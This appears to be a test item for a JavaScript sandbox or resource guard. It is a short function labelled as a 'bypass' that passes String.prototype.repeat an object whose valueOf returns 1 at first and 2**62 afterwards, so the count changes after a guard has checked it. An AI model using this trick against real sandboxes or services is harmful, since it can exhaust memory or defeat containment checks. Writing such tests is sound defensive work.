// class: bypass
// attacks: a count that changes after the guard has checked it
// want: answer
function sync({parent, children}) {
  let n = 0; return {a: 'ab'.repeat({valueOf: () => n++ ? 2 ** 62 : 1})}
  return {};
}
